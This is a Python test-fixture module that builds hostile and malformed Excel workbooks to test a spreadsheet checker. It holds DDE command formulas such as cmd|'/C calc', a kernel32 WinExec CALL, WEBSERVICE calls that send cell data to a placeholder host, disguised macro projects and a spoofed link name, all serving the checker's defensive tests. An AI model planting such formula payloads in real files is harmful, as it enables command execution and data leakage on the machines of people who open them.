"""Formulas and parts that would start programs, reach for the network, or hide what they show."""

from pathlib import Path

from hostile.base import changed, good_parts, put, sheet_part, with_cell
from hostile.kinds import Kind, kind
from support.packages import MAIN, OFFICE, XLSM_TYPE, pack, relations

QUOTES = "'a" * 100_001
_REMARK = ("指标进度", "I5")


def _outward(number: int, formula: str) -> Kind:
    def make(folder: Path) -> Path:
        return put(folder, with_cell(*_REMARK, f"<f>{formula}</f><v>x</v>", "str"))

    make.__doc__ = f"A cell with the formula {formula[:40]}."
    return Kind(
        f"outward_formula_{number:02}", make, frozenset({"S109"}), cell="I5", odd_text=True, together=True
    )


OUTWARD = tuple(
    _outward(n, formula)
    for n, formula in enumerate(
        (
            "cmd|'/C calc'!A0",
            "WEBSERVICE(&quot;http://example.invalid/?&quot;&amp;A1)",
            "_xlfn.WEBSERVICE(&quot;http://example.invalid/&quot;)",
            "webService (&quot;http://example.invalid/&quot;)",
            "1+MSEXCEL|'\\..\\..\\x.exe'!''",
            "DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)",
            "RTD(&quot;x&quot;,&quot;&quot;,&quot;y&quot;)",
            "IMAGE(&quot;http://example.invalid/x.png&quot;)",
            "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
        )
    )
)


def _macro_parts() -> dict[str, str | bytes]:
    result = good_parts()
    types = bytes(result["[Content_Types].xml"]).decode()
    old = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert old in types
    result["[Content_Types].xml"] = types.replace(old, XLSM_TYPE)
    result["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    return result


@kind("S107")
def macros(folder: Path) -> Path:
    """A workbook with a macro project, under the name that says so."""
    return put(folder, _macro_parts(), "360731_于都县_2022-06.xlsm")


@kind("S103 S107")
def macros_disguised(folder: Path) -> Path:
    """The same, named .xlsx."""
    return put(folder, _macro_parts())


@kind("S107")
def macros_unannounced(folder: Path) -> Path:
    """A macro project in a workbook whose type says that it has none."""
    return put(folder, {**good_parts(), "xl/VBAPROJECT.BIN": b"x"})


@kind("S107")
def macro_sheet(folder: Path) -> Path:
    """An Excel 4 macro sheet beside the form."""
    result = good_parts()
    sheets = bytes(result["xl/workbook.xml"]).decode()
    links = bytes(result["xl/_rels/workbook.xml.rels"]).decode()
    result["xl/workbook.xml"] = sheets.replace(
        "</sheets>", '<sheet name="宏" sheetId="99" r:id="rM"/></sheets>'
    )
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    result["xl/_rels/workbook.xml.rels"] = links.replace(
        "</Relationships>",
        f'<Relationship Id="rM" Type="{kind}" Target="macrosheets/m.xml"/></Relationships>',
    )
    result["xl/macrosheets/m.xml"] = "<x/>"
    return put(folder, result)


def _linked(content: str, target: str = "") -> bytes:
    result = good_parts()
    links = bytes(result["xl/_rels/workbook.xml.rels"]).decode()
    result["xl/_rels/workbook.xml.rels"] = links.replace(
        "</Relationships>",
        f'<Relationship Id="rX" Type="{OFFICE}/externalLink" Target="externalLinks/e.xml"/></Relationships>',
    )
    result["xl/externalLinks/e.xml"] = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{content}</externalLink>'
    )
    if target:
        result["xl/externalLinks/_rels/e.xml.rels"] = relations(("r1", "externalLinkPath", target))
    return pack(result)


@kind("S108", odd_text=True)
def external_link(folder: Path) -> Path:
    """A link to a workbook on a server, its name full of terminal controls."""
    return put(folder, _linked('<externalBook r:id="r1"/>', "file://server/[red]\u202e示例.xlsx"))


@kind("S109")
def dde_link(folder: Path) -> Path:
    """A DDE source."""
    return put(folder, _linked('<ddeLink ddeService="cmd" ddeTopic="/C calc"/>'))


@kind("S101")
def external_link_is_broken(folder: Path) -> Path:
    """A link whose part is no XML: what it would reach for cannot be seen."""
    return put(folder, _linked("<ddeLink"))


@kind("S109")
def dde_in_a_name(folder: Path) -> Path:
    """A defined name that starts a program."""
    return put(
        folder,
        changed(
            "xl/workbook.xml",
            "<definedNames>",
            "<definedNames><definedName name=\"x\">cmd|'/C calc'!A0</definedName>",
        ),
    )


@kind("S109")
def dde_in_10_000_cells(folder: Path) -> Path:
    """Ten thousand of them."""
    cells = "".join(
        f'<row r="{n}"><c r="Z{n}"><f>cmd|\'/C calc\'!A0</f><v>1</v></c></row>' for n in range(100, 10_100)
    )
    return put(folder, changed(sheet_part("封面"), "</sheetData>", cells + "</sheetData>"))


@kind("", odd_text=True)
def formula_as_text(folder: Path) -> Path:
    """A remark that begins like a formula: text, and must stay text."""
    return put(folder, with_cell(*_REMARK, "<is><t>=cmd|'/C calc'!A0</t></is>", "inlineStr"))


@kind("", odd_text=True)
def hyperlink(folder: Path) -> Path:
    """A link that somebody would have to click: nothing happens by itself."""
    return put(
        folder,
        with_cell(
            *_REMARK,
            "<f>HYPERLINK(&quot;http://example.invalid/&quot;,&quot;点此&quot;)</f><v>点此</v>",
            "str",
        ),
    )


@kind("S406", cell="I5")
def formula_without_value(folder: Path) -> Path:
    """A formula that nobody has calculated."""
    return put(folder, with_cell(*_REMARK, "<f>1+1</f>"))


@kind("")
def formula_of_a_megabyte(folder: Path) -> Path:
    """A formula far longer than Excel takes."""
    return put(folder, with_cell(*_REMARK, f"<f>{'1+' * 500_000}1</f><v>备注</v>", "str"))


@kind("")
def formula_of_one_long_word(folder: Path) -> Path:
    """A formula that makes a careless search for DDE start over at every letter."""
    return put(folder, with_cell(*_REMARK, f"<f>{'a' * 300_000} | {'b' * 300_000}</f><v>备注</v>", "str"))


@kind("")
def formula_of_open_quotes(folder: Path) -> Path:
    """A formula of quotation marks."""
    return put(folder, with_cell(*_REMARK, f"<f>{'a&quot;' * 99_999}|{QUOTES}</f><v>备注</v>", "str"))


@kind("")
def formula_nested_10_000_deep(folder: Path) -> Path:
    """Brackets in brackets."""
    return put(folder, with_cell(*_REMARK, f"<f>{'(' * 10_000}1{')' * 10_000}</f><v>备注</v>", "str"))


@kind("")
def array_formula_over_everything(folder: Path) -> Path:
    """An array formula that says it fills the whole sheet."""
    return put(folder, with_cell(*_REMARK, '<f t="array" ref="A1:XFD1048576">1</f><v>备注</v>', "str"))


def _error(number: int, text: str) -> Kind:
    def make(folder: Path) -> Path:
        return put(folder, with_cell("指标进度", "F7", f"<v>{text}</v>", "e"))

    make.__doc__ = f"The error {text} where a figure belongs."
    if "&" in text:
        return Kind(f"error_cell_{number}", make, frozenset({"S101"}), together=True)
    return Kind(f"error_cell_{number}", make, frozenset({"S407"}), cell="F7", together=True)


ERRORS = tuple(
    _error(n, text)
    for n, text in enumerate(
        ("#REF!", "#DIV/0!", "#N/A", "#SPILL!", "#GETTING_DATA", "随便写的", "&lt;script&gt;")
    )
)
